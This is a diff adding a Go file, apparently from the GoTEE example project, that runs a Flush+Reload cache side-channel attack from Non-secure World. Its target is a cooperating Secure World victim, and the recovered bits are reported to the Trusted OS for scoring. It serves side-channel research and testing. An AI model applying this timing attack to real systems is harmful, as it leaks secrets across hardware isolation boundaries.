@@ -0,0 +1,84 @@
+// Copyright (c) The GoTEE authors. All Rights Reserved.
+//
+// Use of this source code is governed by the license
+// that can be found in the LICENSE file.
+
+package main
+
+import (
+	"errors"
+	"log"
+	"runtime"
+	"unsafe"
+
+	"github.com/usbarmory/GoTEE-example/internal/sidechannel"
+	"github.com/usbarmory/GoTEE-example/util"
+)
+
+const (
+	SYS_NS_VICTIM = util.SYS_NS_VICTIM
+
+	// attacker calibration samples
+	attackerCalibSamples = 50
+)
+
+// defined in attacker_arm.s
+func victimCall(op uint32, arg uint32) (ret int32)
+
+// attackerCalibrate returns the hit/miss threshold of the argument line,
+// timed with the Non-secure cycle counter.
+func attackerCalibrate(ptr *byte) (threshold float64) {
+	threshold, _, _ = sidechannel.Calibrate(ptr, attackerCalibSamples, nil)
+
+	return
+}
+
+// attackSecureVictim performs Flush+Reload, from Non-secure World, on a line
+// accessed by the Secure World victim depending on its secret, the recovered
+// bits are reported to the Trusted OS for scoring.
+func attackSecureVictim(ptr *byte, threshold float64) (err error) {
+	var bitmap uint32
+
+	if victimCall(util.NS_VICTIM_START, uint32(uintptr(unsafe.Pointer(ptr)))) != 0 {
+		return errors.New("could not register victim line")
+	}
+
+	for i := 0; i < util.SMCChannelBits; i++ {
+		// FLUSH
+		sidechannel.FlushLine(ptr)
+
+		// Secure World victim runs
+		if victimCall(util.NS_VICTIM_ACCESS, uint32(i)) != 0 {
+			return errors.New("victim access failed")
+		}
+
+		// RELOAD
+		if float64(sidechannel.TimeLoad(ptr)) < threshold {
+			bitmap |= 1 << i
+		}
+	}
+
+	if victimCall(util.NS_VICTIM_REPORT, bitmap) != 0 {
+		return errors.New("could not report recovered bits")
+	}
+
+	log.Printf("supervisor recovered Secure World victim bits: %032b", bitmap)
+
+	return
+}
+
+func testSecureVictim() {
+	// line shared with the Secure World victim
+	line := make([]byte, 64)
+
+	sidechannel.EnableCycleCounter()
+	threshold := attackerCalibrate(&line[0])
+
+	log.Printf("supervisor Flush+Reload threshold: %.2f CPU cycles", threshold)
+
+	if err := attackSecureVictim(&line[0], threshold); err != nil {
+		log.Printf("supervisor Flush+Reload against Secure World failed, %v", err)
+	}
+
+	runtime.KeepAlive(line)
+}